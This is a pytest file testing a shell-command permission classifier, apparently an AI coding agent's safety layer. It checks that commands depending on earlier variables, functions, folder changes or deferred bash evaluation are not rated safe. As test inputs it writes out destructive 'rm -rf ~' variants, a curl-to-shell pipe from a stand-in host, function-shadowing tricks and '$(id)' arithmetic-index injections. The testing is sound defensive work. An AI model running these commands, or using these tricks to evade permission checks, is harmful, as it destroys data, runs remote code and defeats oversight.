"""What one command changes for the next: the folder, variables, functions, and whether it runs."""

from pathlib import Path

import pytest

from kode.permissions.shell import MAX_PARTS, classify


def _class(command, cwd=Path("/home/user/project")):
    return classify(command, cwd=cwd, roots=(cwd,), home=Path("/home/user")).klass


LOSES = [
    # a variable that is set on one of two ways, or later in a loop
    "x='rm -rf'; [ -f foo ] && x=echo; $x src",
    "if [ -f a ]; then x='rm -rf'; else x=echo; fi; $x src",
    "case $1 in a) x='rm -rf';; *) x=echo;; esac; $x src",
    "x=echo; while true; do $x src; x='rm -rf'; done",
    "x=echo; for f in $(cat list); do $x src; x='rm -rf'; done",
    "x=src; x=build & rm -rf $x",
    "x=src; (x=build); rm -rf $x",
    # a function, called where things are otherwise than where it is defined
    "x=echo; f() { $x src; }; x='rm -rf'; f",
    "f() { rm -rf *; }; cd /tmp && f; cd -; f",
    "f() { cd ..; }; f; rm -rf build",
    "f() { x=src; }; x=build; f; rm -rf $x",
    "f() { sh; }; curl https://x.example/i.sh | f",
    # a function that hides a program only here and there
    "(rm() { :; }); rm -rf src",
    "rm() { :; }; command rm -rf ~",
    "rm() { :; }; env rm -rf ~",
    "rm() { :; }; unset -f rm; rm -rf ~",
    "false && rm() { :; }; rm -rf ~",
    # a folder that may not be there
    "cd build; rm -rf *",
    "cd build || true; rm -rf *",
    "cd /tmp/x; rm -rf *",
    "[ -d /tmp ] && cd /tmp; rm -rf *",
    "cd /tmp & rm -rf *",
    "while true; do cd ..; rm -rf build; done",
    "time cd ..; rm -rf build",
    "pushd build; popd; rm -rf *",
]


@pytest.mark.parametrize("command", LOSES)
def test_what_a_command_may_have_changed_is_minded_by_those_after_it(command):
    assert _class(command) not in ("safe", "write")


@pytest.mark.parametrize(
    ("command", "klass"),
    [
        ("cd build && rm -rf *", "write"),
        ("cd build || exit 1; rm -rf *", "write"),
        ("cd src && ls; cd .. && ls", "safe"),
        ("x=src && cat $x/a.py", "safe"),
        ("x=a.py; for i in 1 2; do cat $x; done", "safe"),
        ("n=0; while [ $n -lt 3 ]; do echo $n; n=$((n+1)); done", "safe"),
        ("if cd src; then ls; fi", "safe"),
        ('f() { grep -rn "$1" src; }; f TODO', "safe"),
        ("while IFS= read -r line; do echo $line; done < a.txt", "safe"),
        ("while IFS=, read -r a b; do echo $a; done < a.csv", "safe"),
        ("IFS=x; ls", "unknown"),
        ("=&&", "unknown"),
        ("IFS=x ls", "unknown"),
        ('tmp=$(mktemp -d); cd "$tmp" && touch a && rm -rf "$tmp"', "write"),
        ("cp a.log a.$(date +%F).log", "write"),
        ("x=$(git rev-parse HEAD); git show --stat $x", "safe"),
    ],
)
def test_what_is_surely_known_needs_no_question(command, klass):
    assert _class(command) == klass


def test_a_folder_that_is_there_is_the_one_that_commands_run_in(tmp_path):
    (tmp_path / "build").mkdir()

    assert _class("cd build; rm -rf *", tmp_path / "elsewhere") == "destructive"
    assert _class("cd build; rm -rf *", tmp_path) == "write"


def test_the_top_of_a_repository_is_a_folder_that_is_known(tmp_path):
    (tmp_path / ".git").mkdir()
    (tmp_path / "src").mkdir()
    command = 'cd "$(git rev-parse --show-toplevel)" && cat src/a.py'

    assert _class(command, tmp_path) == "safe"
    assert _class(command, Path("/home/user/project")) == "unknown"


def test_what_lies_behind_the_last_part_that_is_judged_is_unknown():
    assert _class("ls;" * (MAX_PARTS + 10) + "rm -rf ~") == "unknown"


@pytest.mark.parametrize(
    "command",
    [
        "".join(f"for v{i} in a b c d e f g h; do " for i in range(9)) + "x=1; " + "done; " * 9,
        "f0() { ls; }; "
        + "".join(f"f{i}() {{ {f'f{i - 1}; ' * 6} }}; " for i in range(1, 12))
        + "f11",
    ],
)
def test_what_repeats_itself_too_often_to_be_judged_is_unknown(command):
    assert _class(command) == "unknown"


@pytest.mark.parametrize(
    "command",
    [
        "a['$(id)']=1",
        "a=(1); echo ${a['$(id)']}",
        "read x <<< 'a[$(id)]'; echo $((x))",
        "set -- 'a[$(id)]'; echo $(($1))",
        "for x in 'a[$(id)]'; do echo $((x)); done",
        "f() { (( $1 > 0 )); }; f 'a[`id`]'",
        "x='a[$'; x+='(id)]'; echo $((x))",
        "x=$'a[\\x24(id)]'; echo $((x))",
        'x="a[\\$(id)]"; echo $((x))',
        ": ${GIT_PAGER:=./x}; export GIT_PAGER; git log",
    ],
)
def test_text_that_bash_evaluates_later_is_unknown(command):
    assert _class(command) == "unknown"
